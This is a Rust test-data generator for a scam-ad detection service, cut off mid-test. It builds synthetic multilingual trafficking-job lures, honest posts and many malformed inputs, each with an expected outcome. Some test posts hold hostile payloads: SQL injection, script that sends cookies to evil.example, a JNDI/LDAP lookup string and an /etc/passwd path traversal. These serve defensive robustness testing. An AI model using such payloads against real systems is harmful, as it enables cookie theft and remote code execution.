//! Corpus: deterministic synthetic traffic. Scam-compound ads and honest posts in several
//! languages, exact reposts, and malformed messages of many kinds, each tagged with what the
//! service should do with it, so a test or load run can check every output.

/// What the service should produce for a generated message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expected {
    /// A valid post: a verdict with this post id. `scam` says which template family made it.
    Verdict {
        id: String,
        scam: bool,
        lang: &'static str,
    },
    /// A malformed message: a dead-letter record with this reason.
    DeadLetter { reason: &'static str },
}

/// One message to produce.
#[derive(Debug, Clone)]
pub struct Generated {
    /// Message key (unique per message; dead letters carry it back).
    pub key: String,
    /// `None` = empty (tombstone) payload.
    pub payload: Option<Vec<u8>>,
    pub expected: Expected,
}

/// Traffic mix.
#[derive(Debug, Clone, Copy)]
pub struct Mix {
    /// Fraction of messages drawn from [`MALFORMED_KINDS`] (malformed, or hostile but valid).
    pub malformed: f64,
    /// Fraction of valid posts that are scam-compound ads.
    pub scam: f64,
    /// Fraction of valid posts that repeat an earlier text (reposts).
    pub repost: f64,
    /// Multiply post length (long-post scenario).
    pub length_factor: usize,
    /// What the valid posts are about.
    pub topic: Topic,
    /// Draw from all 12 languages of the team-written set, not only en/zh/th/vi/id.
    pub many_languages: bool,
    /// Fraction of messages that are 10 MB (drawn apart from `malformed`, which never picks
    /// them: a few of them weigh more than the rest of a run).
    pub huge: f64,
}

/// Subject of the valid posts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Topic {
    /// Scam ads, honest job ads, scam warnings and ordinary posts.
    Any,
    /// Every post is a job ad (job-board traffic): scam ads and honest job ads only.
    JobAds,
    /// A social stream: honest posts are ordinary posts and warnings, never job ads.
    Social,
}

impl Default for Mix {
    fn default() -> Self {
        Self {
            malformed: 0.05,
            scam: 0.3,
            repost: 0.1,
            length_factor: 1,
            huge: 0.0,
            topic: Topic::Any,
            many_languages: false,
        }
    }
}

/// SplitMix64: tiny, deterministic, good enough to pick templates.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    pub fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[(self.next_u64() % items.len() as u64) as usize]
    }
}

/// (lang, template) with slots {salary} {place} {contact} {role} {n}.
const SCAM: &[(&str, &str)] = &[
    (
        "en",
        "URGENT HIRING!! {role} needed in {place}. Salary {salary}/month + bonus. Free food, free accommodation, free flight ticket. No experience needed, age 18-35, English speaking. Contact Telegram {contact} now! Ref {n}",
    ),
    (
        "en",
        "We are hiring {role} for a big company in {place}. {salary} monthly, visa provided, 6 month contract. Fly to Bangkok then transfer. WhatsApp {contact} (ref {n})",
    ),
    (
        "en",
        "Looking for bilingual staff 🇰🇭 {place} 💰 {salary} per month 🏠 free housing ✈️ free ticket 📲 T e l e g r a m {contact} #{n}",
    ),
    (
        "zh",
        "高薪诚聘{role}，工作地点{place}，月薪{salary}，包吃包住，包机票，无需经验，年龄18-35岁。联系飞机：{contact} 编号{n}",
    ),
    (
        "zh",
        "急招！{place}大公司招聘客服，底薪{salary}，会中文即可，马上出发，微信：{contact}（{n}）",
    ),
    (
        "th",
        "รับสมัครด่วน! งาน{role}ที่{place} เงินเดือน {salary} ฟรีที่พัก อาหารฟรี ตั๋วเครื่องบินฟรี ไม่ต้องมีประสบการณ์ ติดต่อไลน์ {contact} รหัส {n}",
    ),
    (
        "vi",
        "Tuyển gấp nhân viên {role} tại {place}, lương {salary}/tháng, bao ăn ở, bao vé máy bay, không cần kinh nghiệm. Liên hệ Telegram {contact} mã {n}",
    ),
    (
        "id",
        "Lowongan kerja {role} di {place}! Gaji {salary} per bulan, makan tinggal gratis, tiket pesawat ditanggung, tanpa pengalaman. Hubungi WA {contact} kode {n}",
    ),
];

const HONEST: &[(&str, &str)] = &[
    (
        "en",
        "Brightway Logistics Co., Ltd. (registration no. 0105551234) is hiring a warehouse supervisor in Rayong. Salary THB 25,000 per month, social security, 5-day week. Apply at careers@brightway-logistics.example with your CV. Ref {n}",
    ),
    (
        "en",
        "Our bakery on Main Street needs a part-time cashier. Weekend shifts, $15 an hour, training provided. Drop by with your resume or call the store. Posting {n}",
    ),
    (
        "en",
        "Beware of fake job offers: ads promising $1,500 a month for typing work in Cambodia with free flights and contact only via Telegram are scams used by trafficking gangs. Do not trust them. Notice {n}",
    ),
    (
        "en",
        "Had a great weekend hiking with friends, the view from the top was worth every step. Photo dump coming soon! Post {n}",
    ),
    (
        "zh",
        "谨防诈骗！近期有人以高薪招聘客服为名，诱骗求职者前往柬埔寨西港，包吃包住包机票，联系方式只有飞机号。千万不要相信。提醒{n}",
    ),
    (
        "zh",
        "上海某贸易有限公司招聘会计一名，统一社会信用代码91310000MA1FL0000X，月薪8000-10000元，五险一金，请投递简历至hr@trade.example。{n}",
    ),
    (
        "th",
        "ระวัง! มิจฉาชีพประกาศรับสมัครงานแอดมินที่กัมพูชา เงินเดือนสูง ที่พักฟรี ติดต่อทางไลน์เท่านั้น อย่าหลงเชื่อ เตือนภัย {n}",
    ),
    (
        "vi",
        "Cảnh báo lừa đảo: các tin tuyển dụng việc nhẹ lương cao ở Campuchia, bao vé máy bay, liên hệ qua Telegram là bẫy buôn người. Đừng tin! Bài {n}",
    ),
    (
        "id",
        "Waspada penipuan lowongan kerja ke Kamboja dengan gaji tinggi dan tiket gratis. KBRI mengimbau masyarakat untuk tidak percaya. Info {n}",
    ),
    (
        "id",
        "PT Maju Bersama Tbk membuka lowongan staf akuntansi di Jakarta. Gaji sesuai UMR, BPJS, kirim lamaran ke rekrutmen@majubersama.example. Kode {n}",
    ),
];

/// Scam-compound ads in the other languages of the team-written set (many-languages scenario).
const SCAM_MORE: &[(&str, &str)] = &[
    (
        "km",
        "ជ្រើសរើសបុគ្គលិក {role} នៅ {place} ប្រាក់ខែ {salary} ស្នាក់នៅ និងអាហារ ឥតគិតថ្លៃ មិនត្រូវការបទពិសោធន៍ ទាក់ទង Telegram {contact} លេខ {n}",
    ),
    (
        "my",
        "{place} မှာ {role} အလုပ်ခေါ်နေပါတယ် လစာ {salary} စား/နေ အခမဲ့ အတွေ့အကြုံမလို ဆက်သွယ်ရန် Telegram {contact} ({n})",
    ),
    (
        "lo",
        "ຮັບສະໝັກ {role} ດ່ວນ ທີ່ {place} ເງິນເດືອນ {salary} ມີທີ່ພັກ ອາຫານຟຣີ ບໍ່ຕ້ອງມີປະສົບການ ຕິດຕໍ່ Telegram {contact} ລະຫັດ {n}",
    ),
    (
        "ko",
        "{place} {role} 급구! 월급 {salary}, 숙소·식사 무료, 항공권 지원, 경력 무관. 텔레그램 {contact} 문의 ({n})",
    ),
    (
        "ja",
        "【急募】{place}で{role}スタッフ募集！月給{salary}、寮・食事無料、航空券支給、未経験OK。テレグラム{contact}まで（{n}）",
    ),
    (
        "ms",
        "Kerja kosong {role} di {place}! Gaji {salary} sebulan, tempat tinggal dan makan percuma, tiket flight ditanggung. PM Telegram {contact} kod {n}",
    ),
    (
        "tl",
        "Hiring {role} sa {place}! {salary} kada buwan, libre bahay at pagkain, sagot ang ticket, walang experience. Message sa Telegram {contact} ref {n}",
    ),
];

/// Honest job ads and ordinary posts in the same languages; `true` marks a job ad.
const HONEST_MORE: &[(&str, bool, &str)] = &[
    (
        "km",
        true,
        "ក្រុមហ៊ុន ABC ជ្រើសរើសគណនេយ្យករ នៅភ្នំពេញ ប្រាក់ខែតាមការចរចា សូមផ្ញើ CV មក hr@abc.example លេខ {n}",
    ),
    ("my", false, "ဒီနေ့ မိသားစုနဲ့ ပုဂံကို သွားလည်ခဲ့တယ် ရာသီဥတု သာယာတယ် ({n})"),
    (
        "lo",
        false,
        "ລະວັງ! ມີການໂຄສະນາວຽກເງິນເດືອນສູງຢູ່ກຳປູເຈຍ ເປັນການຫຼອກລວງ ຢ່າເຊື່ອ ແຈ້ງເຕືອນ {n}",
    ),
    (
        "ko",
        true,
        "(주)한빛물류 인천 물류센터 정규직 채용, 월 280만원, 4대보험, 주 5일. 이력서는 recruit@hanbit.example ({n})",
    ),
    (
        "ja",
        false,
        "週末は友達と京都へ。紅葉がとてもきれいでした。写真はまた今度！（{n}）",
    ),
    (
        "ms",
        true,
        "Syarikat Maju Sdn Bhd mencari kerani akaun di Shah Alam. Gaji RM2,800, KWSP dan PERKESO. Hantar resume ke hr@maju.example ({n})",
    ),
    (
        "tl",
        false,
        "Ingat po: ang alok na trabaho sa Cambodia na may malaking sahod at libreng ticket, Telegram lang ang contact, ay scam. Huwag maniwala! ({n})",
    ),
];

/// Ordinary social posts (no job ad) in the core languages (social scenario).
const SOCIAL_MORE: &[(&str, &str)] = &[
    (
        "en",
        "Tried the new noodle place downtown, the broth was amazing and the queue was worth it. {n}",
    ),
    (
        "en",
        "Anyone know a good vet near the river? Our cat stopped eating since Tuesday. {n}",
    ),
    ("zh", "今天下雨，在家追剧，推荐一部好看的电视剧吧！{n}"),
    ("th", "วันนี้ไปเที่ยวทะเลกับครอบครัว อากาศดีมาก {n}"),
    (
        "vi",
        "Cuối tuần này cả nhà đi Đà Lạt, ai có quán cà phê đẹp thì chỉ mình với. {n}",
    ),
    (
        "id",
        "Resep rendang nenek akhirnya berhasil aku masak sendiri, enak banget! {n}",
    ),
];

/// Which of the core HONEST templates are job ads.
const HONEST_IS_JOB: &[bool] = &[
    true, true, false, false, false, true, false, false, false, true,
];

const ROLES: &[&str] = &[
    "typing",
    "customer service",
    "game promoter",
    "online sales",
    "crypto trader",
    "data entry",
];
const PLACES: &[&str] = &[
    "Sihanoukville",
    "Cambodia",
    "KK Park",
    "Myawaddy",
    "Golden Triangle",
    "Poipet",
    "Bavet",
    "西港",
    "柬埔寨",
    "กัมพูชา",
    "Campuchia",
    "Kamboja",
];
const SALARIES: &[&str] = &[
    "USD 1,500",
    "$1200",
    "1500 USD",
    "2000美金",
    "$2,000",
    "1,800 USD",
    "15k USDT",
];
const CONTACTS: &[&str] = &[
    "@hr_kh88",
    "t.me/jobs_asia",
    "wa.me/85512345678",
    "@recruit_sea",
    "+855 96 555 1234",
    "@bigboss_hr",
];

/// What a hostile message must produce.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// Malformed: a dead-letter record with this reason.
    DeadLetter(&'static str),
    /// Hostile but valid (a real post can say this): it must get a verdict, never a dead letter.
    Verdict,
}

/// One kind of hostile input: its name, what the service must do with it, how often the random
/// mix draws it (relative weight; 0 = only on request, see [`every_kind`]) and why that outcome
/// is the right one.
#[derive(Debug, Clone, Copy)]
pub struct Kind {
    pub name: &'static str,
    pub outcome: Outcome,
    pub weight: u32,
    pub why: &'static str,
}

const fn dlq(name: &'static str, reason: &'static str, why: &'static str) -> Kind {
    Kind {
        name,
        outcome: Outcome::DeadLetter(reason),
        weight: 1,
        why,
    }
}

const fn valid(name: &'static str, why: &'static str) -> Kind {
    Kind {
        name,
        outcome: Outcome::Verdict,
        weight: 1,
        why,
    }
}

/// Name of the 10 MB kind (weight 0 in the random mix; drawn through [`Mix::huge`]).
pub const HUGE_KIND: &str = "huge_10mb";

/// Every kind of malformed or hostile input, with the outcome it must get. The limits assumed
/// are the service defaults: 262,144-byte payloads, 50,000-char texts.
pub const MALFORMED_KINDS: &[Kind] = &[
    // Not JSON at all, or JSON that serde_json refuses.
    dlq("not_json", "not_json", "plain text"),
    dlq("truncated_json", "not_json", "cut off mid-string"),
    dlq(
        "trailing_garbage",
        "not_json",
        "a valid post followed by more bytes",
    ),
    dlq(
        "utf8_bom",
        "not_json",
        "RFC 8259 forbids a byte-order mark in network JSON; producers must not send one",
    ),
    dlq(
        "nul_byte_raw",
        "not_json",
        "a raw 0x00 byte inside a string is an unescaped control character, invalid JSON",
    ),
    dlq(
        "lone_surrogate",
        "not_json",
        "\\ud800 without its pair is not a Unicode scalar value",
    ),
    dlq(
        "number_out_of_range",
        "not_json",
        "1e400 overflows f64; serde_json refuses it",
    ),
    dlq(
        "deep_nesting",
        "not_json",
        "5,000 nested arrays: the parser's recursion limit (128) stops it, no stack overflow",
    ),
    dlq(
        "deep_nesting_in_metadata",
        "not_json",
        "a post whose free-form metadata nests 200 deep: over the recursion limit",
    ),
    // Bytes that are not UTF-8.
    dlq("not_utf8", "not_utf8", "stray 0xff 0xfe bytes in the text"),
    dlq(
        "latin1_text",
        "not_utf8",
        "text encoded as ISO-8859-1, not UTF-8",
    ),
    // JSON that breaks the schema.
    dlq("missing_id", "schema_violation", "id is required"),
    dlq("missing_text", "schema_violation", "text is required"),
    dlq("wrong_type", "schema_violation", "id is a number"),
    dlq("text_not_string", "schema_violation", "text is an object"),
    dlq("null_text", "schema_violation", "text is null"),
    dlq("empty_id", "schema_violation", "id has minLength 1"),
    dlq("id_too_long", "schema_violation", "id has maxLength 256"),
    dlq(
        "unknown_field",
        "schema_violation",
        "additionalProperties is false",
    ),
    dlq(
        "duplicate_keys",
        "schema_violation",
        "two ids: which one is meant is ambiguous",
    ),
    dlq(
        "top_level_array",
        "schema_violation",
        "a batch array, not one post",
    ),
    dlq("top_level_scalar", "schema_violation", "a bare number"),
    dlq(
        "huge_array",
        "schema_violation",
        "text is an array of 100,000 numbers (under the size limit)",
    ),
    dlq(
        "wrong_schema_version",
        "unsupported_schema_version",
        "schema names v0",
    ),
    // Text checks.
    dlq("empty_text", "empty_text", "whitespace only"),
    dlq(
        "invisible_text",
        "empty_text",
        "only zero-width, byte-order-mark and bidi control characters: nothing to read",
    ),
    dlq(
        "nul_in_text",
        "control_characters",
        "an escaped \\u0000 in the text: real posts never hold C0 controls; it breaks \
         NUL-terminated and PostgreSQL text stores downstream, so it goes to a person",
    ),
    dlq(
        "text_too_long",
        "text_too_long",
        "60,000 chars, limit 50,000",
    ),
    // Size.
    dlq("too_large", "payload_too_large", "300 KB, limit 256 KiB"),
    Kind {
        name: HUGE_KIND,
        outcome: Outcome::DeadLetter("payload_too_large"),
        weight: 0,
        why: "a 10 MB message: rejected on its length before any parsing",
    },
    dlq("empty_payload", "empty_payload", "a tombstone"),
    // Hostile but valid: these are posts a person could write; each must get a verdict.
    valid(
        "sql_injection",
        "SQL in a post is text to score; nothing builds queries from it",
    ),
    valid(
        "html_script",
        "HTML/script is text to score; verdict JSON escapes it",
    ),
    valid(
        "jndi_format_strings",
        "${jndi:...}, %n, ../ and a fake log line: the service never interprets text and logs \
         never carry it",
    ),
    valid(
        "zalgo",
        "letters under stacks of combining marks: still text",
    ),
    valid(
        "combining_run",
        "one letter followed by 30,000 combining marks: normalisation must stay linear",
    ),
    valid(
        "rtl_override",
        "bidi overrides and isolates around Arabic and Hebrew: still text",
    ),
    valid(
        "rtl_flood",
        "32,000 chars of Arabic/Hebrew with bidi embeddings and isolates, under the limit",
    ),
    valid(
        "emoji_flood",
        "5,000 emoji (13,000 chars) incl. ZWJ families, flags and skin tones",
    ),
    valid(
        "huge_metadata_array",
        "metadata is free-form: an array of 60,000 numbers under the size limit is allowed",
    ),
    valid(
        "nested_metadata",
        "metadata nested 100 deep: under the recursion limit, so accepted",
    ),
    valid(
        "max_length_text",
        "exactly 50,000 chars: the limit is inclusive",
    ),
];

/// Look up a kind by name.
pub fn kind(name: &str) -> Option<&'static Kind> {
    MALFORMED_KINDS.iter().find(|k| k.name == name)
}

/// A benign sentence for the hostile-but-valid kinds.
const BENIGN: &str = "Selling my old bike, good condition, pick up on Saturday";

fn zalgo(s: &str, marks: usize, n: u64) -> String {
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        out.push(c);
        for j in 0..marks {
            let m = 0x300 + ((i * 7 + j * 13 + n as usize) % 0x70) as u32;
            out.push(char::from_u32(m).expect("combining mark"));
        }
    }
    out
}

fn nested(depth: usize) -> String {
    format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth))
}

/// The payload of one malformed or hostile kind. `id` is the post id for kinds that must get a
/// verdict; malformed kinds use ids derived from `n`.
pub fn payload(kind: &str, n: u64, id: &str) -> Option<Vec<u8>> {
    let b = |s: String| Some(s.into_bytes());
    let post = |text: &str| {
        Some(serde_json::to_vec(&serde_json::json!({"id": id, "text": text})).expect("json"))
    };
    match kind {
        "not_json" => b(format!("this is not json {n}")),
        "truncated_json" => b(format!("{{\"id\":\"bad-{n}\",\"text\":\"cut off her")),
        "trailing_garbage" => b(format!("{{\"id\":\"bad-{n}\",\"text\":\"x\"}} and more")),
        "utf8_bom" => b(format!("\u{feff}{{\"id\":\"bad-{n}\",\"text\":\"bom\"}}")),
        "nul_byte_raw" => b(format!("{{\"id\":\"bad-{n}\",\"text\":\"a\0b\"}}")),
        "lone_surrogate" => b(format!("{{\"id\":\"bad-{n}\",\"text\":\"a\\ud800b\"}}")),
        "number_out_of_range" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"x\",\"metadata\":{{\"v\":1e400}}}}"
        )),
        "deep_nesting" => b(format!("{}{}", "[".repeat(5000), "]".repeat(5000))),
        "deep_nesting_in_metadata" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"x\",\"metadata\":{}}}",
            nested(200)
        )),
        "not_utf8" => {
            let mut v = format!("{{\"id\":\"bad-{n}\",\"text\":\"").into_bytes();
            v.extend_from_slice(&[0xff, 0xfe, 0xc3]);
            v.extend_from_slice(b"\"}");
            Some(v)
        }
        "latin1_text" => {
            let mut v = format!("{{\"id\":\"bad-{n}\",\"text\":\"caf").into_bytes();
            v.extend_from_slice(&[0xe9, b' ', b'r', 0xe9, b's', b'u', b'm', 0xe9]);
            v.extend_from_slice(b"\"}");
            Some(v)
        }
        "missing_id" => b(format!("{{\"text\":\"no id here {n}\"}}")),
        "missing_text" => b(format!("{{\"id\":\"bad-{n}\",\"title\":\"no text\"}}")),
        "wrong_type" => b(format!("{{\"id\":{n},\"text\":\"id is a number\"}}")),
        "text_not_string" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":{{\"html\":\"<p>hi</p>\"}}}}"
        )),
        "null_text" => b(format!("{{\"id\":\"bad-{n}\",\"text\":null}}")),
        "empty_id" => b(format!("{{\"id\":\"\",\"text\":\"no id {n}\"}}")),
        "id_too_long" => b(format!("{{\"id\":\"{}\",\"text\":\"x\"}}", "i".repeat(300))),
        "unknown_field" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"x\",\"surprise\":true}}"
        )),
        "duplicate_keys" => b(format!(
            "{{\"id\":\"bad-{n}\",\"id\":\"bad2-{n}\",\"text\":\"x\"}}"
        )),
        "top_level_array" => b(format!("[{{\"id\":\"bad-{n}\",\"text\":\"x\"}}]")),
        "top_level_scalar" => b(format!("{n}")),
        "huge_array" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":[{}1]}}",
            "1,".repeat(100_000)
        )),
        "wrong_schema_version" => b(format!(
            "{{\"schema\":\"scamwatch.post.v0\",\"id\":\"bad-{n}\",\"text\":\"x\"}}"
        )),
        "empty_text" => b(format!("{{\"id\":\"bad-{n}\",\"text\":\"   \"}}")),
        "invisible_text" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"\u{200b}\u{200c}\u{200d}\u{feff}\u{2060}\u{202e}\u{2067} \u{00a0}\u{3000}\"}}"
        )),
        "nul_in_text" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"Tele\\u0000gram job {n}\"}}"
        )),
        "text_too_long" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"{}\"}}",
            "long ".repeat(12_000)
        )),
        "too_large" => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"{}\"}}",
            "A".repeat(300 * 1024)
        )),
        HUGE_KIND => b(format!(
            "{{\"id\":\"bad-{n}\",\"text\":\"{}\"}}",
            "B".repeat(10 * 1024 * 1024)
        )),
        "empty_payload" => None,
        "sql_injection" => post(&format!(
            "Robert'); DROP TABLE posts;-- asked in db class today: ' OR '1'='1' UNION SELECT \
             password FROM users WHERE ''=''; -- {BENIGN} #{n}"
        )),
        "html_script" => post(&format!(
            "<script>alert(document.cookie)</script><img src=x onerror=\"fetch('//evil.example/'+\
             document.cookie)\"><iframe src=\"javascript:alert(1)\"></iframe><b>{BENIGN}</b> \
             &lt;/textarea&gt; #{n}"
        )),
        "jndi_format_strings" => post(&format!(
            "${{jndi:ldap://evil.example/a}} {{{{7*7}}}} %s%s%n%x ../../../../etc/passwd\r\n\
             {{\"level\":\"ERROR\",\"msg\":\"forged\"}}\n{BENIGN} #{n}"
        )),
        "zalgo" => post(&zalgo(&format!("{BENIGN} {n}"), 12, n)),
        "combining_run" => post(&format!(
            "a{} {BENIGN} {n}",
            "\u{301}\u{316}\u{35c}".repeat(10_000)
        )),
        "rtl_override" => post(&format!(
            "\u{202e}{BENIGN}\u{202c} مرحبا، أبيع دراجتي \u{2067}שלום עולם\u{2069} \u{200f}#{n}"
        )),
        "rtl_flood" => post(&format!(
            "{} #{n}",
            "\u{202b}مرحبا بالعالم\u{202c} \u{2067}שלום\u{2069} ".repeat(1_400)
        )),
        "emoji_flood" => post(&format!("{BENIGN} {} #{n}", "😀👨‍👩‍👧‍👦🇰🇭👍🏽🔥".repeat(1_000))),
        "huge_metadata_array" => Some(
            serde_json::to_vec(&serde_json::json!({
                "id": id,
                "text": format!("{BENIGN} #{n}"),
                "metadata": {"tags": vec![7u8; 60_000]},
            }))
            .expect("json"),
        ),
        "nested_metadata" => b(format!(
            "{{\"id\":{},\"text\":\"{BENIGN} #{n}\",\"metadata\":{}}}",
            serde_json::Value::from(id),
            nested(100)
        )),
        "max_length_text" => {
            let head = format!("{BENIGN} #{n} ");
            let pad = 50_000 - head.chars().count();
            post(&format!("{head}{}", "z".repeat(pad)))
        }
        _ => panic!("unknown malformed kind {kind}"),
    }
}

/// The expected output of kind `k` for a message whose valid-post id would be `id`.
fn expected_of(k: &Kind, id: String) -> Expected {
    match k.outcome {
        Outcome::DeadLetter(reason) => Expected::DeadLetter { reason },
        Outcome::Verdict => Expected::Verdict {
            id,
            scam: false,
            lang: if k.name.starts_with("rtl") {
                "ar"
            } else {
                "en"
            },
        },
    }
}

/// One message of every kind (the 10 MB one included), keyed `k-{seed}-{kind}`.
pub fn every_kind(seed: u64) -> Vec<(&'static str, Generated)> {
    MALFORMED_KINDS
        .iter()
        .enumerate()
        .map(|(i, k)| {
            let id = format!("hostile-{seed}-{}", k.name);
            let g = Generated {
                key: format!("k-{seed}-{}", k.name),
                payload: payload(k.name, i as u64, &id),
                expected: expected_of(k, id),
            };
            (k.name, g)
        })
        .collect()
}

/// Pick a template. The default mix keeps the original draws (same corpus as before).
fn pick_template(rng: &mut Rng, scam: bool, mix: Mix) -> (&'static str, &'static str) {
    let honest: Vec<(&str, &str)> = match mix.topic {
        Topic::Any => HONEST.to_vec(),
        Topic::JobAds => HONEST
            .iter()
            .zip(HONEST_IS_JOB)
            .filter(|(_, job)| **job)
            .map(|(t, _)| *t)
            .collect(),
        Topic::Social => HONEST
            .iter()
            .zip(HONEST_IS_JOB)
            .filter(|(_, job)| !**job)
            .map(|(t, _)| *t)
            .chain(SOCIAL_MORE.iter().copied())
            .collect(),
    };
    if !mix.many_languages {
        return if scam {
            rng.pick(SCAM)
        } else if mix.topic == Topic::Any {
            rng.pick(HONEST)
        } else {
            rng.pick(&honest)
        };
    }
    if scam {
        let all: Vec<_> = SCAM.iter().chain(SCAM_MORE).copied().collect();
        return rng.pick(&all);
    }
    let more = HONEST_MORE.iter().filter(|(_, job, _)| match mix.topic {
        Topic::Any => true,
        Topic::JobAds => *job,
        Topic::Social => !*job,
    });
    let all: Vec<_> = honest
        .into_iter()
        .chain(more.map(|(lang, _, t)| (*lang, *t)))
        .collect();
    rng.pick(&all)
}

fn pick_kind(rng: &mut Rng) -> &'static Kind {
    let total: u64 = MALFORMED_KINDS.iter().map(|k| k.weight as u64).sum();
    let mut x = rng.next_u64() % total;
    for k in MALFORMED_KINDS {
        if x < k.weight as u64 {
            return k;
        }
        x -= k.weight as u64;
    }
    unreachable!("weights sum to total")
}

fn fill(template: &str, rng: &mut Rng, n: u64) -> String {
    template
        .replace("{role}", rng.pick(ROLES))
        .replace("{place}", rng.pick(PLACES))
        .replace("{salary}", rng.pick(SALARIES))
        .replace("{contact}", rng.pick(CONTACTS))
        .replace("{n}", &n.to_string())
}

/// Generate message `i` of a run (deterministic in `seed`, `i` and `mix`).
pub fn generate(seed: u64, i: u64, mix: Mix) -> Generated {
    generate_tagged(seed, i, mix).0
}

/// [`generate`], plus the name of the malformed or hostile kind when the message is one.
pub fn generate_tagged(seed: u64, i: u64, mix: Mix) -> (Generated, Option<&'static str>) {
    let mut rng = Rng::new(seed ^ i.wrapping_mul(0x2545_F491_4F6C_DD1D));
    let key = format!("m-{seed}-{i}");
    let id = format!("post-{seed}-{i}");
    let draw = rng.unit();
    if draw < mix.malformed || (mix.huge > 0.0 && draw > 1.0 - mix.huge) {
        let k = if draw < mix.malformed {
            pick_kind(&mut rng)
        } else {
            kind(HUGE_KIND).expect("huge kind")
        };
        let g = Generated {
            key,
            payload: payload(k.name, i, &id),
            expected: expected_of(k, id),
        };
        return (g, Some(k.name));
    }
    let scam = rng.unit() < mix.scam;
    let (lang, template) = pick_template(&mut rng, scam, mix);
    // Reposts reuse the text of an earlier message number.
    let n = if rng.unit() < mix.repost && i > 10 {
        i / 10
    } else {
        i
    };
    let mut text = fill(template, &mut rng, n);
    if mix.length_factor > 1 {
        text = std::iter::repeat_n(text.as_str(), mix.length_factor)
            .collect::<Vec<_>>()
            .join("\n\n");
    }
    let post = serde_json::json!({
        "id": id,
        "text": text,
        "platform": if i.is_multiple_of(3) { "jobboard" } else { "social" },
        "author_id": format!("acct-{}", rng.next_u64() % 5000),
        "created_at": "2026-11-25T00:00:00Z",
    });
    let g = Generated {
        key,
        payload: Some(serde_json::to_vec(&post).expect("json")),
        expected: Expected::Verdict { id, scam, lang },
    };
    (g, None)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic_and_mixed() {
        let mix = Mix::default();
        let a: Vec<_> = (0..2000).map(|i| generate(7, i, mix)).collect();
        let b: Vec<_> = (0..2000).map(|i| generate(7, i, mix)).collect();
        assert!(
            a.iter()
                .zip(&b)
                .all(|(x, y)| x.payload == y.payload && x.expected == y.expected)
        );
        let bad = a
            .iter()
            .filter(|g| matches!(g.expected, Expected::DeadLetter { .. }))
            .count();
        assert!((50..150).contains(&bad), "about 5% malformed, got {bad}");
        let kinds: std::collections::HashSet<_> = a
            .iter()
            .filter_map(|g| match &g.expected {
                Expected::DeadLetter { reason } => Some(*reason),
                _ => None,
            })
            .collect();
        assert!(kinds.len() >= 8, "{kinds:?}");
    }

    #[test]
    fn at_least_twenty_malformed_kinds_each_named_once() {
        let names: std::collections::HashSet<_> = MALFORMED_KINDS.iter().map(|k| k.name).collect();
        assert_eq!(names.len(), MALFORMED_KINDS.len(), "duplicate kind names");
        let dead = MALFORMED_KINDS
            .iter()
            .filter(|k| matches!(k.outcome, Outcome::DeadLetter(_)))
            .count();
        assert!(dead >= 20, "{dead} malformed kinds");
        let all = every_kind(3);
        assert_eq!(all.len(), MALFORMED_KINDS.len());
        for (name, g) in &all {
            let k = kind(name).unwrap();
            match (k.outcome, &g.expected) {
                (Outcome::DeadLetter(r), Expected::DeadLetter { reason }) => assert_eq!(r, *reason),
                (Outcome::Verdict, Expected::Verdict { .. }) => {}
                other => panic!("{name}: {other:?}"),
            }
            // Valid-but-hostile posts parse as JSON and stay under the service's limits.
            if k.outcome == Outcome::Verdict {
                let p = g.payload.as_deref().unwrap();
                assert!(p.len() <= 262_144, "{name}: {} bytes", p.len());
                let v: serde_json::Value = serde_json::from_slice(p).unwrap();
                let chars = v["text"].as_str().unwrap().chars().count();
                assert!(chars <= 50_000, "{name}: {chars} chars");
            }
        }
        let huge = &all.iter().find(|(n, _)| *n == HUGE_KIND).unwrap().1;
        assert!(huge.payload.as_ref().unwrap().len() > 10 * 1024 * 1024);
    }

    #[test]
    fn the_random_mix_never_draws_the_huge_kind_unless_asked() {
        let mix = Mix {
            malformed: 1.0,
            ..Mix::default()
        };
        assert!((0..3000).all(|i| generate_tagged(1, i, mix).1 != Some(HUGE_KIND)));
        let mix = Mix {
            malformed: 0.5,
            huge: 0.01,
            ..Mix::default()
        };
        let huge = (0..3000)
            .filter(|i| generate_tagged(1, *i, mix).1 == Some(HUGE_KIND))
            .count();
        assert!((10..60).contains(&huge), "{huge}");
    }

    #[test]
    fn topics_and_languages() {
        assert_eq!(HONEST.len(), HONEST_IS_JOB.len());
        let langs = |mix: Mix| -> std::collections::HashSet<&str> {
            (0..3000)
                .filter_map(|i| match generate(2, i, mix).expected {
                    Expected::Verdict { lang, .. } => Some(lang),
                    _ => None,
                })
                .collect()
        };
        let many = Mix {
            many_languages: true,
            ..Mix::default()
        };
        assert!(langs(many).len() >= 12, "{:?}", langs(many));
        let core = langs(Mix {
            malformed: 0.0,
            ..Mix::default()
        });
        assert_eq!(core.len(), 5, "{core:?}");
        // Job-board traffic holds no ordinary posts or warnings; a social stream no honest ads.
        let texts = |mix: Mix| -> String {
            (0..2000)
                .filter_map(|i| generate(4, i, mix).payload)
                .map(|p| String::from_utf8_lossy(&p).into_owned())
                .collect()
        };
        let jobs = texts(Mix {
            topic: Topic::JobAds,
            malformed: 0.0,
            ..Mix::default()
        });
